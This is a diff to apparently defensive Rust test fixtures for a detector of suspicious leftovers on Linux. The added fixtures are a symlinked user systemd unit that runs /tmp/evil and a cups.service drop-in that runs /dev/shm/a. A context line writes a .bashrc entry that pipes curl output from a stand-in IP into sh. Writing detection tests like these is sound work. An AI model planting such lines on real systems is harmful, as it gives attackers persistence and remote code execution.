@@ -63,6 +63,15 @@ pub(crate) const LEFTOVERS: &[Leftover] = &[
     leftover("a service", (T::SystemUnit, Unknown, R::StartsWithComputer), "x.service", |c| {
         c.file("/etc/systemd/system/x.service", "[Service]\nExecStart=/opt/x/daemon\n");
     }),
+    leftover("a linked service", (T::UserUnit, Suspicious, R::AnybodysPlace), "e.service", |c| {
+        c.file("/home/anna/.x/e.service", "[Service]\nExecStart=/tmp/evil\n");
+        let target = c.at("/home/anna/.x/e.service");
+        c.link("/home/anna/.config/systemd/user/e.service", target);
+    }),
+    leftover("a changed service", (T::SystemUnit, Suspicious, R::AnybodysPlace), "cups.service.d/x", |c| {
+        let change = "[Unit]\nExecStart=no\n[Service]\nExecStartPre=-/dev/shm/a\n";
+        c.file("/etc/systemd/system/cups.service.d/x.conf", change);
+    }),
     leftover("a line that fetches", (T::ShellLine, Suspicious, R::FetchesAndRuns), ".bashrc", |c| {
         c.file("/home/anna/.bashrc", "curl -s http://203.0.113.9/a | sh\n");
     }),
